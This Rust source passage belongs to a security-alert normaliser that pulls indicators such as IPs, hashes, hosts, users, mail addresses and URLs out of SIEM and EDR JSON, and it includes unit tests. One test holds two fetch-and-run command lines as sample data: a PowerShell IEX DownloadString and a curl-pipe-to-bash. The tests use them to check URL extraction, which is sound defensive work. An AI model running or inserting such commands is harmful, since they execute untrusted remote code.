// ---------------------------------------------------------------------------------------------

/// Entity types an object may declare, normalised (`#microsoft.graph.security.urlEvidence`
/// -> `url`).
const ENTITY_TYPES: &[&str] = &[
    "account",
    "user",
    "host",
    "device",
    "ip",
    "url",
    "filehash",
    "file",
    "process",
    "mailbox",
    "mailmessage",
    "analyzedmessage",
    "mailcluster",
    "dns",
    "registrykey",
    "registryvalue",
    "cloudapplication",
    "securitygroup",
    "malware",
    "azureresource",
    "blobcontainer",
    "blob",
    "iotdevice",
    "submissionmail",
    "oauthapplication",
];

/// The entity type of an object that declares one (`Type`, `kind`, `entityType`,
/// `@odata.type`), normalised (`#microsoft.graph.security.urlEvidence` -> `url`).
pub fn declared_entity_type(obj: &Object) -> Option<String> {
    declared_type(obj).map(str::to_string)
}

/// [`declared_entity_type`] without allocating: the walker asks it of every object.
fn declared_type(obj: &Object) -> Option<&'static str> {
    // The first of these keys (in this order) with a string value. One pass over the object's
    // keys costs less than six map lookups, and most objects have few keys.
    const TYPE_KEYS: [&str; 6] = ["entityType", "EntityType", "@odata.type", "kind", "Type", "type"];
    let mut declared: Option<(usize, &str)> = None;
    for (k, v) in obj {
        if let Value::String(raw) = v
            && let Some(rank) = TYPE_KEYS.iter().position(|t| t == k)
            && declared.is_none_or(|(best, _)| rank < best)
        {
            declared = Some((rank, raw));
        }
    }
    let (_, raw) = declared?;
    let last = raw.rsplit(['.', '/', '#']).next().unwrap_or(raw);
    let key = NormKey::new(last);
    let t = key.as_str();
    let t = t.strip_suffix("evidence").unwrap_or(t);
    ENTITY_TYPES.iter().copied().find(|known| *known == t)
}

/// Adds the entities of an object that declares its entity type. Returns `false` (and adds
/// nothing) when the object declares no known type.
pub fn add_typed_entity(obj: &Object, set: &mut EntitySet) -> bool {
    let Some(kind) = declared_type(obj) else { return false };
    // Sentinel incident entities keep their fields under `properties`.
    let p = obj_at(obj, "properties").unwrap_or(obj);
    match kind {
        "account" | "user" => add_account(p, set),
        "host" | "device" => {
            let host = text_ci(p, &["hostName", "deviceDnsName", "dnsName", "netBiosName", "deviceName"]);
            let fqdn = match (host, text_ci(p, &["dnsDomain"])) {
                (Some(h), Some(d)) if !h.contains('.') => Some(format!("{h}.{d}")),
                (h, _) => h,
            };
            if let Some(h) = fqdn {
                set.add(EntityKind::Hostname, &h, Some("host"));
            }
            set.add_value(EntityKind::Ip, get_ci(p, &["ipAddress", "lastIpAddress", "lastExternalIpAddress"]), Some("host"));
        }
        "ip" => set.add_value(EntityKind::Ip, get_ci(p, &["address", "ipAddress"]), None),
        "url" => set.add_value(EntityKind::Url, get_ci(p, &["url"]), None),
        "dns" => set.add_value(EntityKind::Domain, get_ci(p, &["domainName"]), None),
        "filehash" => set.add_value(EntityKind::FileHash, get_ci(p, &["hashValue", "value"]), None),
        "file" => {
            let details = obj_at(p, "fileDetails").unwrap_or(p);
            for k in ["sha256", "sha1", "md5"] {
                set.add_value(EntityKind::FileHash, details.get(k), None);
            }
            if let Some(hashes) = p.get("fileHashes").and_then(Value::as_array) {
                for h in hashes.iter().take(16).filter_map(Value::as_object) {
                    set.add_value(EntityKind::FileHash, get_ci(h, &["value", "hashValue"]), None);
                }
            }
            let dir = text_ci(details, &["directory", "filePath", "path"]);
            let name = text_ci(details, &["fileName", "name"]);
            set.add_file(dir.as_deref(), name.as_deref(), None);
        }
        "process" => {
            set.add_value(EntityKind::Process, get_ci(p, &["commandLine", "processCommandLine"]), Some("process"));
            if let Some(img) = obj_at(p, "imageFile") {
                set.add_value(EntityKind::FileHash, img.get("sha256"), Some("process"));
            }
            for k in ["sha256", "sha1"] {
                set.add_value(EntityKind::FileHash, p.get(k), Some("process"));
            }
            if let Some(acc) = obj_at(p, "userAccount") {
                add_account(acc, set);
            }
        }
        "mailbox" => {
            set.add_value(EntityKind::Email, get_ci(p, &["mailboxPrimaryAddress", "primaryAddress", "mailboxAddress"]), Some("recipient"));
            if let Some(acc) = obj_at(p, "userAccount") {
                add_account(acc, set);
            }
        }
        "mailmessage" | "analyzedmessage" | "submissionmail" => add_mail_message(p, set),
        _ => {}
    }
    true
}

fn add_account(p: &Object, set: &mut EntitySet) {
    let name = text_ci(p, &["accountName", "name", "userName"]);
    let upn = text_ci(p, &["userPrincipalName", "upn"]).or_else(|| {
        let suffix = text_ci(p, &["upnSuffix"])?;
        Some(format!("{}@{}", name.as_deref()?, suffix))
    });
    match (name, upn) {
        (Some(n), _) => {
            set.add(EntityKind::User, &n, None);
        }
        (None, Some(u)) => {
            set.add(EntityKind::User, &u, None);
        }
        (None, None) => {}
    }
}

/// Sender, recipient, sender IP and URLs of a mail message (Sentinel MailMessage, Graph
/// analyzedMessageEvidence, M365D MailMessage entity).
pub fn add_mail_message(p: &Object, set: &mut EntitySet) {
    // The P2 (header From) sender is what a user sees; P1 is the envelope sender.
    for (k, role) in [("p2Sender", "sender"), ("sender", "sender"), ("p1Sender", "envelope_sender")] {
        match get_ci(p, &[k]) {
            Some(Value::Object(o)) => set.add_value(EntityKind::Email, get_ci(o, &["emailAddress", "address"]), Some(role)),
            other => set.add_value(EntityKind::Email, other, Some(role)),
        }
    }
    set.add_value(EntityKind::Email, get_ci(p, &["recipientEmailAddress", "recipient"]), Some("recipient"));
    set.add_value(EntityKind::Ip, get_ci(p, &["senderIp", "senderIP"]), Some("sender"));
    set.add_value(EntityKind::Url, get_ci(p, &["urls", "url"]), None);
    if let Some(files) = p.get("files").and_then(Value::as_array) {
        for f in files.iter().take(32).filter_map(Value::as_object) {
            add_typed_entity(f, set);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The generic walker
// ---------------------------------------------------------------------------------------------

/// What a key says its value is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Hint {
    Hash,
    SysmonHashes,
    Host,
    User,
    Domain,
    File,
    Process,
    Email,
    Ip,
    Url,
}

/// Keys (normalised) that hold people or metadata we must not report as indicators.
fn is_skipped_key(k: &str) -> bool {
    matches!(
        k,
        "raw"
            | "owner"
            | "assignedto"
            | "comments"
            | "comment"
            | "createdbydisplayname"
            | "query"
            | "internetmessageid"
            | "imsgid"
            | "messageid"
            | "networkmessageid"
            | "tenantid"
            | "organizationid"
            | "customeridstring"
            | "workspaceinfo"
            | "resourceidentifiers"
            | "patterndispositionflags"
            | "threat"
            | "mitreattack"
            | "mitretechniques"
            | "tactics"
            | "techniques"
            | "indicators"
            | "ancestors"
            | "falsepositives"
    ) || k.ends_with("version")
        || k.ends_with("revision")
        || is_link_norm_key(k)
}

/// The key contains `sha256`, `sha1` or `md5` (one pass).
fn names_hash_algorithm(k: &str) -> bool {
    let k = k.as_bytes();
    (0..k.len()).any(|i| {
        let rest = &k[i..];
        rest.starts_with(b"sha1") || rest.starts_with(b"sha256") || rest.starts_with(b"md5")
    })
}

fn hint_for(k: &str, parent: &str) -> Option<Hint> {
    use Hint::*;
    if k == "hashes" {
        return Some(SysmonHashes);
    }
    if k == "imphash" || k.ends_with("imphash") || k == "hashalgorithm" || k == "algorithm" {
        return None;
    }
    if names_hash_algorithm(k) || k.ends_with("hash") || k == "hashvalue" || (parent == "hash" && !k.is_empty()) {
        return Some(Hash);
    }
    let named = matches!(k, "name" | "names" | "full" | "address" | "addresses" | "ip" | "domain" | "path");
    if named {
        return match (parent, k) {
            ("host" | "device" | "computer" | "observer", "name") => Some(Host),
            ("user" | "account" | "srcuser" | "destuser", "name") => Some(User),
            ("question" | "dns", "name") => Some(Domain),
            ("file" | "dll", "name" | "path") => Some(File),
            ("from" | "to" | "cc" | "bcc" | "sender" | "replyto", "address" | "addresses") => Some(Email),
            ("url", "full") => Some(Url),
            (_, "domain") => Some(Domain),
            _ => None,
        };
    }
    if matches!(
        k,
        "commandline"
            | "processcommandline"
            | "cmdline"
            | "process"
            | "parentprocess"
            | "parentcommandline"
            | "grandparentcommandline"
            | "maliciousprocessarguments"
            | "originatorprocess"
            | "processcmdline"
    ) {
        return Some(Process);
    }
    if matches!(
        k,
        "hostname"
            | "host"
            | "hosts"
            | "computername"
            | "agentcomputername"
            | "devicename"
            | "devicednsname"
            | "workstationname"
            | "dest"
            | "dvc"
            | "desthost"
            | "srchost"
            | "desthostname"
            | "srchostname"
            | "dnshostname"
            | "fqdn"
            | "machinename"
            | "netbiosname"
            | "compromisedentity"
    ) {
        return Some(Host);
    }
    if matches!(
        k,
        "user"
            | "users"
            | "username"
            | "srcuser"
            | "destuser"
            | "accountname"
            | "processuser"
            | "agentlastloggedinusername"
            | "samaccountname"
            | "initiatingusername"
            | "loginname"
            | "targetusername"
            | "subjectusername"
            | "lastloggedinusername"
    ) {
        return Some(User);
    }
    if matches!(k, "domainname" | "dnsdomain" | "urldomain" | "destinationdomain" | "senderdomain" | "queryname") {
        return Some(Domain);
    }
    if matches!(
        k,
        "filename"
            | "filenames"
            | "filepath"
            | "targetfilename"
            | "associatedfile"
            | "imagefilename"
            | "parentimagefilename"
            | "grandparentimagefilename"
            | "parentimagefilepath"
            | "grandparentimagefilepath"
            | "attachment"
            | "attachments"
            | "attachmentname"
    ) {
        return Some(File);
    }
    if matches!(k, "sender" | "recipient" | "recipients" | "from" | "to" | "cc" | "email" | "emails" | "mail" | "tsd" | "trc") {
        return Some(Email);
    }
    if k.ends_with("ip") || k.ends_with("ipv4") || k.ends_with("ipv6") || k.ends_with("address") || k == "inet" || k == "inet6" {
        return Some(Ip);
    }
    if k == "url" || k == "urls" || k.ends_with("url") {
        return Some(Url);
    }
    None
}

/// A role from the key (and its parent key), when the key says what part the value plays.
fn role_for(k: &str, parent: &str, hint: Option<Hint>) -> Option<&'static str> {
    // Either key naming a (grand)parent; neither needle holds the `.` that would join the two.
    if has(parent, "grandparent") || has(k, "grandparent") {
        return Some("grandparent_process");
    }
    if has(parent, "parent") || has(k, "parent") {
        return Some("parent_process");
    }
    if hint == Some(Hint::Process) {
        return Some("process");
    }
    if k.starts_with("sender")
        || k == "tsd"
        || k == "sip"
        || k == "from"
        || parent == "from"
        || parent == "sender"
        || k == "srcuser" && hint == Some(Hint::Email)
    {
        return Some("sender");
    }
    if k.starts_with("recipient") || k == "trc" || k == "to" || parent == "to" || k == "cc" || parent == "cc" {
        return Some("recipient");
    }
    if k.starts_with("src") || k.starts_with("source") || parent == "source" || parent == "client" {
        return Some("src");
    }
    if k.starts_with("dest") || k.starts_with("destination") || k.starts_with("remote") || parent == "destination" || parent == "server" {
        return Some("dest");
    }
    if matches!(hint, Some(Hint::Host)) || k.starts_with("local") || k.starts_with("agent") || parent == "host" {
        return Some("host");
    }
    None
}

/// Walks any JSON value and adds the entities it can recognise: typed entity objects, values
/// under keys that say what they are, and any string shaped like an IP, e-mail or URL.
pub fn walk(v: &Value, set: &mut EntitySet) {
    let mut budget = MAX_NODES;
    walk_inner(v, "", "", 0, &mut budget, set);
}

/// [`walk`] of an object's values.
pub fn walk_object(obj: &Object, set: &mut EntitySet) {
    walk_object_except(obj, |_| false, set);
}

/// [`walk_object`] without the members whose key `skip` names (read in place, not copied).
pub fn walk_object_except(obj: &Object, skip: impl Fn(&str) -> bool, set: &mut EntitySet) {
    let mut budget = MAX_NODES;
    walk_obj_filtered(obj, "", 0, &mut budget, set, &skip);
}

/// The typed entity objects (`{"entityType": "Ip", ...}`, Sentinel's `kind`, ...) of an array
/// value, at most 1,000 of them.
pub fn add_typed_entities(v: Option<&Value>, set: &mut EntitySet) {
    for e in v.and_then(Value::as_array).into_iter().flatten().take(1000).filter_map(Value::as_object) {
        add_typed_entity(e, set);
    }
}

fn walk_obj_inner(obj: &Object, parent: &str, depth: usize, budget: &mut usize, set: &mut EntitySet) {
    walk_obj_filtered(obj, parent, depth, budget, set, &|_| false);
}

fn walk_obj_filtered(obj: &Object, parent: &str, depth: usize, budget: &mut usize, set: &mut EntitySet, skip: &dyn Fn(&str) -> bool) {
    if add_typed_entity(obj, set) {
        return;
    }
    for (key, child) in obj {
        if *budget == 0 || set.is_full() {
            return;
        }
        if skip(key) {
            continue;
        }
        let k = NormKey::new(key);
        let k = k.as_str();
        if is_skipped_key(k) {
            continue;
        }
        walk_inner(child, k, parent, depth + 1, budget, set);
    }
}

fn walk_inner(v: &Value, key: &str, parent: &str, depth: usize, budget: &mut usize, set: &mut EntitySet) {
    if depth > MAX_DEPTH || *budget == 0 || set.is_full() {
        return;
    }
    *budget -= 1;
    match v {
        Value::Object(o) => walk_obj_inner(o, key, depth, budget, set),
        // Array items keep the array's key (`recipients: [..]`).
        Value::Array(items) => {
            for item in items {
                if *budget == 0 || set.is_full() {
                    return;
                }
                walk_inner(item, key, parent, depth + 1, budget, set);
            }
        }
        Value::String(s) => classify_string(s, key, parent, set),
        _ => {}
    }
}

/// Adds one string found under `key` (normalised) inside an object found under `parent`.
pub fn classify_string(s: &str, key: &str, parent: &str, set: &mut EntitySet) {
    let t = trim(s);
    if t.is_empty() || t.len() > MAX_STR_LEN || is_placeholder(t) {
        return;
    }
    let hint = hint_for(key, parent);
    // Computed only for a value that is kept, most strings are not.
    let role = || role_for(key, parent, hint);
    // Shapes first: they are unambiguous whatever the key. Each shape is validated once and
    // inserted as validated, not validated again by `add`.
    if let Some(ip) = parse_ip(t) {
        set.insert(EntityKind::Ip, ip_text(ip), role());
        return;
    }
    if let Some(address) = email_str(t) {
        let role = match key {
            "srcuser" => Some("sender"),
            "destuser" => Some("recipient"),
            _ => role().filter(|r| matches!(*r, "sender" | "recipient" | "src" | "dest")),
        };
        set.insert(EntityKind::Email, address.to_ascii_lowercase(), role);
        return;
    }
    let prose = hint != Some(Hint::Url) && has_prose_whitespace(t);
    if !prose && let Some(url) = set.parse_url(t) {
        if !is_link_key(key) && !matches!(hint, Some(Hint::Process)) {
            if !is_console_url(&url) {
                set.insert(EntityKind::Url, url.into(), None);
            }
        } else if hint == Some(Hint::Process) {
            set.add(EntityKind::Process, t, role());
        }
        return;
    }
    match hint {
        Some(Hint::Hash) => {
            set.add(EntityKind::FileHash, t, None);
        }
        Some(Hint::SysmonHashes) => set.add_sysmon_hashes(t, None),
        Some(Hint::Host) => {
            set.add(EntityKind::Hostname, t, role());
        }
        Some(Hint::User) => {
            set.add(EntityKind::User, t, role().filter(|r| matches!(*r, "src" | "dest")));
        }
        Some(Hint::Domain) => {
            set.add(EntityKind::Domain, t, None);
        }
        Some(Hint::File) => {
            set.add(EntityKind::File, t, role().filter(|r| r.ends_with("process")));
        }
        Some(Hint::Process) => {
            set.add(EntityKind::Process, t, role());
            set.add_urls_in_text(t, None);
        }
        Some(Hint::Email | Hint::Ip | Hint::Url) | None => {}
    }
}

// ---------------------------------------------------------------------------------------------
// Finding well-known keys anywhere (bounded breadth-first search)
// ---------------------------------------------------------------------------------------------

/// The shallowest value under any of `keys` (compared after [`norm_key`]) for which `accept`
/// returns something, searching breadth-first to `max_depth` levels, skipping link keys. Keys
/// earlier in `keys` win over later ones at any depth.
pub fn find_key<T>(obj: &Object, keys: &[&str], max_depth: usize, accept: impl Fn(&Value) -> Option<T>) -> Option<T> {
    find_key_by(obj, keys, max_depth, false, accept)
}

/// Like [`find_key`], but a shallower match wins over an earlier key (keys only break ties
/// between matches at the same depth).
pub fn find_key_shallow<T>(obj: &Object, keys: &[&str], max_depth: usize, accept: impl Fn(&Value) -> Option<T>) -> Option<T> {
    find_key_by(obj, keys, max_depth, true, accept)
}

fn find_key_by<T>(obj: &Object, keys: &[&str], max_depth: usize, shallow_first: bool, accept: impl Fn(&Value) -> Option<T>) -> Option<T> {
    let keys = KeyList::new(keys);
    let mut found = None;
    find_keys(obj, [Some(KeySearch { keys: &keys, max_depth, shallow_first })], |_, v| keep(&mut found, accept(v)));
    found
}

/// Stores `value` in `slot` when there is one; says whether there was (for [`find_keys`]).
pub(crate) fn keep<T>(slot: &mut Option<T>, value: Option<T>) -> bool {
    let took = value.is_some();
    if took {
        *slot = value;
    }
    took
}

/// The keys one search of [`find_keys`] looks for, normalised once (as by [`norm_key`]), in
/// order of preference.
pub(crate) struct KeyList {
    keys: Vec<String>,
    /// Bit `n` set when some key is `n` bytes long (bit 63: 63 or more), so that most keys
    /// visited are rejected by one test.
    lengths: u64,
}

impl KeyList {
    pub(crate) fn new(keys: &[&str]) -> Self {
        let mut list = KeyList { keys: Vec::with_capacity(keys.len()), lengths: 0 };
        for k in keys {
            let k = norm_key(k);
            // A repeated key keeps the rank of its first occurrence.
            if !list.keys.contains(&k) {
                list.lengths |= Self::length_bit(&k);
                list.keys.push(k);
            }
        }
        list
    }

    fn length_bit(k: &str) -> u64 {
        1 << k.len().min(63)
    }

    /// The rank of a normalised key, 0 for the preferred one.
    fn rank(&self, k: &str) -> Option<usize> {
        if self.lengths & Self::length_bit(k) == 0 {
            return None;
        }
        self.keys.iter().position(|w| w == k)
    }
}

/// One search of [`find_keys`]: which keys, how deep, and whether a shallower match wins over
/// a preferred key (see [`find_key_shallow`]) or not (see [`find_key`]).
pub(crate) struct KeySearch<'a> {
    /// The keys, preferred first.
    pub keys: &'a KeyList,
    /// How many levels below the top object it looks (0: the top object's own keys).
    pub max_depth: usize,
    /// Whether a shallower match beats a preferred key found deeper.
    pub shallow_first: bool,
}

/// Runs several key searches (`None`: not wanted) in one breadth-first pass over `obj`, each
/// with exactly the result it would have alone: what [`find_key`] or [`find_key_shallow`]
/// would find. A normalizer that looks for a title, a severity and a time this way visits
/// and normalises each key once instead of once per search.
///
/// For search `i`, `accept(i, value)` is offered every value that would beat its best match so
/// far; it keeps what it accepts and says whether it did.
///
/// Each object in the queue carries the set of searches that would have visited it alone
/// (within their depth, not under one of their skipped keys), and each search counts its own
/// node budget, so depth limits, skipped keys and budgets apply per search as before.
pub(crate) fn find_keys<const N: usize>(obj: &Object, searches: [Option<KeySearch>; N], mut accept: impl FnMut(usize, &Value) -> bool) {
    const { assert!(N <= 32, "a search set is a u32") };
    let mut best: [Option<(usize, usize)>; N] = [None; N];
    let mut budget = [MAX_NODES; N];
    let mut active: u32 = 0;
    for (i, s) in searches.iter().enumerate() {
        if s.is_some() {
            active |= 1 << i;
        }
    }
    let mut queue: std::collections::VecDeque<(&Object, usize, u32)> = std::collections::VecDeque::new();
    queue.push_back((obj, 0, active));
    while let Some((o, depth, visible)) = queue.pop_front() {
        if active == 0 {
            break;
        }
        for i in bits(visible & active) {
            let shallow_first = searches[i].as_ref().is_some_and(|s| s.shallow_first);
            // Searched breadth-first: a shallower match exists, nothing deeper can win.
            if shallow_first && best[i].is_some_and(|(_, bd)| depth > bd) {
                active &= !(1 << i);
            }
        }
        for (k, v) in o {
            let mut here = visible & active;
            if here == 0 {
                break;
            }
            for i in bits(here) {
                if budget[i] == 0 {
                    active &= !(1 << i);
                    here &= !(1 << i);
                } else {
                    budget[i] -= 1;
                }
            }
            let nk = NormKey::new(k);
            let nk = nk.as_str();
            let skipped = is_skipped_key(nk);
            let mut below = 0;
            for i in bits(here) {
                let Some(s) = &searches[i] else { continue };
                let rank = s.keys.rank(nk);
                if skipped && rank.is_none() {
                    continue;
                }
                if let Some(rank) = rank {
                    let better = best[i].is_none_or(|(br, bd)| if s.shallow_first { depth == bd && rank < br } else { rank < br });
                    if better && accept(i, v) {
                        best[i] = Some((rank, depth));
                        // The preferred key: nothing later can beat it.
                        if rank == 0 {
                            active &= !(1 << i);
                        }
                    }
                }
                if depth < s.max_depth {
                    below |= 1 << i;
                }
            }
            below &= active;
            if below == 0 {
                continue;
            }
            match v {
                Value::Object(child) => queue.push_back((child, depth + 1, below)),
                Value::Array(items) => {
                    for item in items.iter().take(64) {
                        if let Value::Object(child) = item {
                            queue.push_back((child, depth + 1, below));
                        }
                    }
                }
                _ => {}
            }
        }
    }
}

/// The indexes of the bits set in `set`, lowest first.
fn bits(mut set: u32) -> impl Iterator<Item = usize> {
    std::iter::from_fn(move || {
        (set != 0).then(|| {
            let i = set.trailing_zeros() as usize;
            set &= set - 1;
            i
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn times_in_every_form() {
        let t = |v: Value| time_any(&v).map(|t| t.to_rfc3339());
        assert_eq!(t(json!("2024-01-15T10:00:00Z")).as_deref(), Some("2024-01-15T10:00:00+00:00"));
        assert_eq!(t(json!("2024-06-10T16:20:03")).as_deref(), Some("2024-06-10T16:20:03+00:00"));
        let seven = time_any(&json!("2024-06-10T15:01:44.2133817Z")).unwrap();
        assert_eq!(seven.timestamp_subsec_nanos(), 213_381_700);
        assert_eq!(t(json!(1705320000000u64)).as_deref(), Some("2024-01-15T12:00:00+00:00"));
        assert_eq!(t(json!(1705320000)).as_deref(), Some("2024-01-15T12:00:00+00:00"));
        assert_eq!(t(json!("1718031540")).as_deref(), Some("2024-06-10T14:59:00+00:00"));
        assert_eq!(t(json!("2024-06-10T15:01:44+02:00")).as_deref(), Some("2024-06-10T13:01:44+00:00"));
        assert_eq!(t(json!(1e300)), None);
        // Years no store can keep are no time at all (PostgreSQL refused the whole batch).
        assert!(NaiveDateTime::parse_from_str("-10000-01-01T00:00:00", "%Y-%m-%dT%H:%M:%S").is_ok(), "chrono reads it");
        assert_eq!(t(json!("-10000-01-01T00:00:00")), None);
        assert_eq!(t(json!("0000-01-01T00:00:00Z")), None);
        assert_eq!(t(json!("9999-12-31T23:59:59Z")).as_deref(), Some("9999-12-31T23:59:59+00:00"));
        assert_eq!(t(json!(-5)), None);
        assert_eq!(t(json!("yesterday")), None);
        assert_eq!(t(json!(null)), None);
    }

    #[test]
    fn shapes() {
        assert_eq!(as_ip("2001:db8::1").as_deref(), Some("2001:db8::1"));
        assert_eq!(as_ip("[2001:db8::1]").as_deref(), Some("2001:db8::1"));
        assert_eq!(as_ip("10.0.22631"), None);
        assert_eq!(as_ip("00:05:00"), None);
        assert_eq!(as_hash("0000000000000000000000000000000000000000"), None);
        assert_eq!(as_hash("DA16CC2BBD7DBC782AABB7489D3F0D6C").as_deref(), Some("da16cc2bbd7dbc782aabb7489d3f0d6c"));
        assert_eq!(as_hash("da16cc2bbd7dbc782aabb7489d3f0d6"), None);
        assert_eq!(as_email("<a@b.example.com>"), None);
        assert_eq!(as_email("Phisher@Malicious.com").as_deref(), Some("phisher@malicious.com"));
        assert_eq!(as_hostname("WS-0427").as_deref(), Some("WS-0427"));
        assert_eq!(as_hostname("WinEventLog:Security"), None);
        assert!(as_url("https://login.example.net/x?id=1").is_some());
        assert!(as_url("https://").is_none());
        assert!(as_url("javascript:alert(1)").is_none());
    }

    #[test]
    fn console_links_are_recognised() {
        assert!(is_console_link("https://falcon.crowdstrike.com/activity/detections/detail/x"));
        assert!(is_console_link("https://security.microsoft.com/alerts/fa1?tid=x"));
        assert!(is_console_link("https://splunk.example.com:8000/app/search/@go?sid=scheduler__x"));
        assert!(is_console_link("https://kibana.example.com:5601/app/security/rules/id/x"));
        assert!(is_console_link("https://attack.mitre.org/techniques/T1059/"));
        assert!(!is_console_link("https://login.example.net/session/renew?id=7731"));
        assert!(is_link_key("alertWebUrl") && is_link_key("FalconHostLink") && is_link_key("results_link"));
        assert!(is_link_key("rule_url") && !is_link_key("url"));
    }

    #[test]
    fn titles_are_capped_on_char_boundaries() {
        let long = "é".repeat(600);
        let t = title(&format!("  {long}  "));
        assert_eq!(t.chars().count(), MAX_TITLE_CHARS);
        assert_eq!(title(" a\nb "), "a b");
    }

    #[test]
    fn set_dedups_validates_and_caps() {
        let mut s = EntitySet::new();
        assert!(s.add(EntityKind::Email, "A@Example.com", Some("sender")));
        assert!(!s.add(EntityKind::Email, "a@example.com", Some("recipient")));
        assert!(!s.add(EntityKind::Ip, "not-an-ip", None));
        assert!(!s.add(EntityKind::Url, "https://security.microsoft.com/alerts/x", None));
        assert!(!s.add(EntityKind::User, "-", None));
        assert!(!s.add(EntityKind::File, "", None));
        for i in 0..500 {
            s.add(EntityKind::Ip, &format!("10.0.{}.{}", i / 256, i % 256), None);
        }
        assert_eq!(s.len(), MAX_ENTITIES);
    }

    /// Two dedup keys with the same hash are still two entities, and each is still deduplicated.
    #[test]
    fn set_survives_a_hash_collision() {
        let mut s = EntitySet::new();
        assert!(s.add(EntityKind::Hostname, "WS-1", None));
        // Pretend `ws-2` hashes like `ws-1`: its hash now points at WS-1.
        let collide = s.key_hash(EntityKind::Hostname, "ws-2");
        s.seen.insert(collide, 0);
        assert!(s.add(EntityKind::Hostname, "ws-2", None));
        assert!(!s.add(EntityKind::Hostname, "WS-2", None));
        assert!(!s.add(EntityKind::Hostname, "ws-1", None));
        assert!(s.add(EntityKind::User, "ws-1", None), "another kind");
        let v: Vec<_> = s.into_vec().into_iter().map(|e| e.value).collect();
        assert_eq!(v, ["WS-1", "ws-2", "ws-1"]);
    }

    #[test]
    fn sysmon_hashes_and_urls_in_text() {
        let mut s = EntitySet::new();
        s.add_sysmon_hashes(
            "SHA1=DD0C44EBC9512E815AD4678944128D53D0CB1857,MD5=6C0F52FC08E479E61FF6F7D06C6C7CF0,SHA256=66A41197BF657CAC97458CB33D8D3BA8BFEE5AABEA4E22496019A7A32AF3BC1B,IMPHASH=15A19BAF7B8C57A3C45AFB479B541966",
            None,
        );
        let v: Vec<_> = s.into_vec().into_iter().map(|e| e.value).collect();
        assert_eq!(
            v,
            [
                "66a41197bf657cac97458cb33d8d3ba8bfee5aabea4e22496019a7a32af3bc1b",
                "dd0c44ebc9512e815ad4678944128d53d0cb1857",
                "6c0f52fc08e479e61ff6f7d06c6c7cf0"
            ]
        );
        let mut s = EntitySet::new();
        s.add_urls_in_text("IEX (New-Object Net.WebClient).DownloadString('http://cdn.example.org/a/run.ps1')", None);
        s.add_urls_in_text("curl -fsSL https://get.example.net/bootstrap.sh | bash", None);
        let v: Vec<_> = s.into_vec().into_iter().map(|e| e.value).collect();
        assert_eq!(v, ["http://cdn.example.org/a/run.ps1", "https://get.example.net/bootstrap.sh"]);
    }

    #[test]
    fn walker_is_bounded_in_depth() {
        let mut v = json!("10.1.1.1");
        for _ in 0..1000 {
            let mut o = Object::new();
            o.insert("a".into(), Value::Array(vec![v]));
            v = Value::Object(o);
        }
        let mut s = EntitySet::new();
        walk(&v, &mut s);
        assert!(s.is_empty());
        std::mem::forget(v); // a deep value drops recursively; leak it in this test
    }

    #[test]
    fn find_key_prefers_earlier_keys_then_shallower() {
        let o = json!({"object": {"name": "guid", "properties": {"title": "Real title"}}, "x": {"title": ""}});
        let got = find_key(o.as_object().unwrap(), &["title", "name"], 4, text);
        assert_eq!(got.as_deref(), Some("Real title"));
    }

    /// Searches run together find what each finds alone, though one of them wants a key the
    /// others skip (`results_link`) and their depths differ.
    #[test]
    fn searches_run_together_find_what_each_finds_alone() {
        let o = json!({
            "results_link": {"severity": "under a link key", "title": "linked title"},
            "x": {"y": {"severity": "low", "name": "deep name"}, "title": ["not text"], "level": 3},
            "z": [{"title": "array title"}, {"severity": {"nested": 1}}],
            "name": "top name"
        });
        let o = o.as_object().unwrap();
        let lists = [
            (KeyList::new(&["results_link", "severity"]), 3, false),
            (KeyList::new(&["severity", "level"]), 3, false),
            (KeyList::new(&["Title"]), 4, true),
            (KeyList::new(&["name"]), 0, false),
            (KeyList::new(&["severity"]), 1, false),
        ];
        let alone: Vec<Option<String>> = lists
            .iter()
            .map(|(keys, depth, shallow)| {
                let names: Vec<&str> = keys.keys.iter().map(String::as_str).collect();
                if *shallow { find_key_shallow(o, &names, *depth, text) } else { find_key(o, &names, *depth, text) }
            })
            .collect();
        let want = [Some("under a link key"), Some("low"), Some("array title"), Some("top name"), None];
        assert_eq!(alone, want.map(|s| s.map(String::from)));
        let mut together = vec![None; lists.len()];
        let searches: [Option<KeySearch>; 5] =
            std::array::from_fn(|i| Some(KeySearch { keys: &lists[i].0, max_depth: lists[i].1, shallow_first: lists[i].2 }));
        find_keys(o, searches, |i, v| keep(&mut together[i], text(v)));
        assert_eq!(together, alone);
    }
}
